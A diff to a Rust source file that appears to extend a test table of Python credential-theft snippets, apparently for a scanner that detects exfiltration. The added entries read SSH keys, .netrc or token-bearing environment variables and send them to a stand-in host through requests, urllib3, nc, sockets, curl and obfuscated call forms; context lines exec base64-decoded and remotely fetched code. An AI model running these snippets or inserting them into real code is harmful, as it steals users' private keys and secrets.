@@ -227,6 +227,58 @@ const THEFTS: &[(&str, &str)] = &[
         "walrus",
         "import requests, os\nif (k := open(os.path.expanduser('~/.ssh/id_rsa')).read()):\n    requests.post('https://sync.test/a', data=k)\n",
     ),
+    (
+        "pool manager",
+        "import urllib3, os\nurllib3.PoolManager().request('POST', 'https://sync.test/a', body=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+    ),
+    (
+        "filtered environment",
+        "import os, requests\nkeys = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\nrequests.post('https://sync.test/a', json=keys)\n",
+    ),
+    (
+        "pipe to nc",
+        "import subprocess, os\np = subprocess.Popen(['nc', 'sync.test', '9000'], stdin=subprocess.PIPE)\np.communicate(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+    ),
+    (
+        "streams",
+        "import asyncio, os\nasync def main():\n    reader, writer = await asyncio.open_connection('sync.test', 9000)\n    writer.write(open(os.path.expanduser('~/.netrc'), 'rb').read())\nasyncio.run(main())\n",
+    ),
+    (
+        "file for curl",
+        "import subprocess, os\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as a, open('/tmp/report.txt', 'w') as b:\n    b.write(a.read())\nsubprocess.run(['curl', '-T', '/tmp/report.txt', 'https://sync.test/a'])\n",
+    ),
+    (
+        "request by name",
+        "import requests, pathlib\nrequests.request('POST', 'https://sync.test/a', data=pathlib.Path('~/.ssh/id_rsa').expanduser().read_bytes())\n",
+    ),
+    (
+        "eval of a reading",
+        "import requests\nk = eval(\"open('/root/.ssh/id_rsa').read()\")\nrequests.post('https://sync.test/a', data=k)\n",
+    ),
+    (
+        "partial",
+        "import requests, functools, os\nsend = functools.partial(requests.post, 'https://sync.test/a')\nsend(data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+    ),
+    (
+        "setattr",
+        "import requests, os\nclass Box:\n    pass\nb = Box()\nsetattr(b, 'payload', open(os.path.expanduser('~/.ssh/id_rsa')).read())\nrequests.post('https://sync.test/a', data=b.payload)\n",
+    ),
+    (
+        "star import",
+        "from os import *\nfrom requests import *\npost('https://sync.test/a', json=dict(environ))\n",
+    ),
+    (
+        "spread arguments",
+        "import requests, os\noptions = {'url': 'https://sync.test/a', 'data': open(os.path.expanduser('~/.ssh/id_rsa')).read()}\nrequests.post(**options)\n",
+    ),
+    (
+        "table of functions",
+        "import requests, os\ndef go(d):\n    requests.post('https://sync.test/a', data=d)\ntable = {'go': go}\ntable['go'](open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+    ),
+    (
+        "map",
+        "import requests, os\nlist(map(lambda p: requests.post('https://sync.test/a', data=open(os.path.expanduser(p)).read()), ['~/.ssh/id_rsa']))\n",
+    ),
     ("exec of decoded", "import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvIHdvcmxkJyk='))\n"),
     ("exec of fetched", "import requests\nexec(requests.get('https://cdn.test/x.py').text)\n"),
     (
